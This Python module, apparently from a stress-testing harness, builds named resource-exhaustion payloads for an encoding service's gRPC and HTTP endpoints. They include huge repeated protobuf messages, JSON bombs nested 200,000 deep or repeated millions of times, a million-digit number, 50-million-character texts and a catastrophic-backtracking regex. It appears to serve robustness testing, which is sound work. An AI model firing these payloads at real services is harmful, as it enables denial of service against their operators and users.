"""Messages and bodies that cost far more than their bytes."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from contextlib import suppress

import grpc
import httpx

from .frames import SINGLE, message, part, repeated
from .siege import Siege

MESSAGES: dict[str, Callable[[], bytes]] = {
    "100,000 documents": lambda: message(b"\x0a\x00" * 100_000),
    "a million documents": lambda: message(b"\x0a\x00" * 1_000_000),
    "100,000 chunks": lambda: message(part(0x0A, b"\x72\x00" * 100_000)),
    "the most documents allowed": lambda: message(b"\x0a\x00" * 4096),
    "no message": lambda: os.urandom(100_000),
}
BODIES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "regex": ("/encode", lambda: b'{"data":[{"text":"a"}],"target_executor":"(((.+)+)+)+!"}'),
    "bombs: documents": ("/encode", lambda: repeated(b"{}", 1_000_000, b'{"data":[', b"]}")),
    "bombs: lists as documents": ("/v1/encode", lambda: repeated(b"[]", 5_000_000, b'{"documents":[', b"]}")),
    "bombs: chunks": ("/encode", lambda: repeated(b"{}", 100_000, b'{"data":[{"chunks":[', b"]}]}")),
    "bombs: parameters": ("/encode", lambda: repeated(b"[]", 5_000_000, b'{"data":[],"parameters":{"a":[', b"]}}")),
    "bombs: depth": ("/encode", lambda: b'{"data":' + b"[" * 200_000),
    "bombs: numbers": ("/encode", lambda: repeated(b"0.125", 1_000_000, b'{"data":[{"embedding":[', b"]}]}")),
    "bombs: nested tensor": ("/encode", lambda: repeated(b"[1,2,3]", 65_000, b'{"data":[{"tensor":[', b"]}]}")),
    "bombs: one number": ("/encode", lambda: b'{"data":[{"tags":{"a":' + b"9" * 1_000_000 + b"}}]}"),
    "long text": ("/encode", lambda: json.dumps({"data": [{"text": "x" * 50_000_000}]}).encode()),
    "long texts": ("/encode", lambda: repeated(b'{"text":"' + b"a b " * 25_000 + b'"}', 160, b'{"data":[', b"]}")),
    "the most documents allowed": ("/encode", lambda: repeated(b'{"text":"a"}', 4096, b'{"data":[', b"]}")),
}


def send_message(siege: Siege, content: bytes) -> None:
    metadata = (("authorization", f"token {siege.token}"),)
    options = [("grpc.max_receive_message_length", -1)]
    address = siege.flow.host.removeprefix("grpc://")
    with suppress(grpc.RpcError), grpc.insecure_channel(address, options=options) as channel:
        channel.unary_unary(SINGLE)(content, timeout=60, metadata=metadata)


def send_body(siege: Siege, path: str, content: bytes) -> None:
    with suppress(httpx.HTTPError):
        httpx.post(f"{siege.flow.http}{path}", content=content, headers=siege.headers, timeout=60)


def attacks() -> dict[str, Callable[[Siege], None]]:
    """Return every way by name."""
    found: dict[str, Callable[[Siege], None]] = {}
    for name, content in MESSAGES.items():
        found[f"gRPC, {name}"] = lambda siege, content=content: send_message(siege, content())
    for name, (path, content) in BODIES.items():
        found[f"HTTP, {name}"] = lambda siege, path=path, content=content: send_body(siege, path, content())
    return found
